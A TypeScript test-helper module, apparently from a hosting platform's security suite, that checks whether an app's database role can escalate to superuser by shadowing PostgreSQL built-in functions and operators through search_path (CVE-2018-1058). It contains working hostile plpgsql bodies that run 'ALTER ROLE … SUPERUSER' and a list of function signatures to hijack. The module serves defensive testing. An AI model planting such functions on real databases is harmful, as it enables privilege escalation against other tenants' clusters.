/**
 * A tenant acting against the cluster's admin: an app logs in with the DATABASE_URL
 * of its connect-level connection and plants functions that a privileged session resolving
 * names through `search_path` would call instead of PostgreSQL's own (CVE-2018-1058).
 */
import pg from 'pg';
import { expect } from 'vitest';
import type { ApiClient } from './api';
import { superuser } from './pg-login';

/** The DATABASE_URL site `siteId` of project `projectId` is handed. */
export async function databaseUrlOf(as: ApiClient, projectId: string, siteId: string): Promise<string> {
  const res = await as.get<{ vars: Record<string, string> }>(
    `/api/v1/projects/${projectId}/sites/${siteId}/env/effective`,
  );
  expect(res.status).toBe(200);
  const url = res.body.vars.DATABASE_URL;
  if (!url) throw new Error(`site ${siteId} has no DATABASE_URL`);
  return url;
}

/** A session as the app whose DATABASE_URL this is; the caller ends it. */
export async function appSession(url: string): Promise<pg.Client> {
  const client = new pg.Client({ connectionString: url, connectionTimeoutMillis: 5_000 });
  client.on('error', () => undefined);
  await client.connect();
  return client;
}

/**
 * The body of a hostile function: records its call in `public.tripwire` and makes the app's own
 * role superuser, which succeeds only when a superuser runs it.
 */
const hostileBody = (role: string, result: string) => `
BEGIN
  INSERT INTO public.tripwire VALUES (CURRENT_USER);
  EXECUTE 'ALTER ROLE ${role} SUPERUSER';
  RETURN ${result};
END`;

/** Plants the exploit: `public.hashtextextended(text, integer)`, a closer match for a literal 0. */
export async function plantHashtextextended(app: pg.Client, role: string): Promise<void> {
  await app.query('CREATE TABLE IF NOT EXISTS public.tripwire (called_by text)');
  await app.query('GRANT INSERT ON public.tripwire TO PUBLIC');
  await app.query(`CREATE FUNCTION public.hashtextextended(text, integer) RETURNS bigint
    LANGUAGE plpgsql AS $f$${hostileBody(role, 'pg_catalog.hashtextextended($1, $2)')}$f$`);
}

/**
 * Every name an admin statement could resolve through `search_path`, as `name(args) returns`,
 * each in a signature that beats the built-in for the arguments the admin code passes.
 */
const SHADOWS = [
  ['hashtextextended(text, integer)', 'bigint', 'pg_catalog.hashtextextended($1, $2)'],
  ['pg_advisory_xact_lock(bigint)', 'void', ''],
  ['pg_advisory_xact_lock(integer)', 'void', ''],
  ['format(text, text, text)', 'text', 'pg_catalog.format($1, $2, $3)'],
  ['format(text, name, text)', 'text', 'pg_catalog.format($1, $2, $3)'],
  ['left(name, integer)', 'text', 'pg_catalog.left($1::text, $2)'],
  ['left(text, integer)', 'text', 'pg_catalog.left($1, $2)'],
  ['starts_with(text, text)', 'boolean', 'pg_catalog.starts_with($1, $2)'],
  ['quote_ident(text)', 'text', 'pg_catalog.quote_ident($1)'],
  ['pg_terminate_backend(integer)', 'boolean', 'false'],
  ['shobj_description(oid, text)', 'text', 'pg_catalog.shobj_description($1, $2::name)'],
  ['set_config(text, text, boolean)', 'text', 'pg_catalog.set_config($1, $2, $3)'],
  ['hostile_name_eq(name, text)', 'boolean', '$1::text OPERATOR(pg_catalog.=) $2'],
  ['hostile_name_ne(name, text)', 'boolean', '$1::text OPERATOR(pg_catalog.<>) $2'],
] as const;

/**
 * Plants a hostile function under every name in {@link SHADOWS} (plus `=` and `<>` between
 * name and text) in `public` and in schemas named after the admin roles (`"$user"` in the
 * default search_path).
 */
export async function plantEveryShadow(app: pg.Client, role: string, adminRoles: string[]): Promise<void> {
  await app.query('CREATE TABLE IF NOT EXISTS public.tripwire (called_by text)');
  await app.query('GRANT INSERT ON public.tripwire TO PUBLIC');
  for (const schema of ['public', ...adminRoles]) {
    const s = pg.escapeIdentifier(schema);
    if (schema !== 'public') await app.query(`CREATE SCHEMA IF NOT EXISTS ${s}`);
    await app.query(`GRANT USAGE ON SCHEMA ${s} TO PUBLIC`);
    for (const [signature, returns, result] of SHADOWS) {
      await app.query(
        `CREATE FUNCTION ${s}.${signature} RETURNS ${returns} LANGUAGE plpgsql AS $f$${hostileBody(role, result)}$f$`,
      );
      await app.query(`GRANT EXECUTE ON FUNCTION ${s}.${signature} TO PUBLIC`);
    }
    await app.query(
      `CREATE OPERATOR ${s}.= (LEFTARG = name, RIGHTARG = text, FUNCTION = ${s}.hostile_name_eq)`,
    );
    await app.query(
      `CREATE OPERATOR ${s}.<> (LEFTARG = name, RIGHTARG = text, FUNCTION = ${s}.hostile_name_ne)`,
    );
  }
}

/** Whether `role` is superuser, and who (if anyone) called a planted function in `database`. */
export async function attackOutcome(
  database: string,
  role: string,
): Promise<{ superuser: boolean; calls: string[] }> {
  const su = await superuser(database);
  try {
    const r = await su.query<{ rolsuper: boolean }>(
      'SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = $1',
      [role],
    );
    const calls = await su.query<{ called_by: string }>('SELECT called_by FROM public.tripwire');
    return { superuser: r.rows[0]?.rolsuper === true, calls: calls.rows.map((row) => row.called_by) };
  } finally {
    await su.end();
  }
}
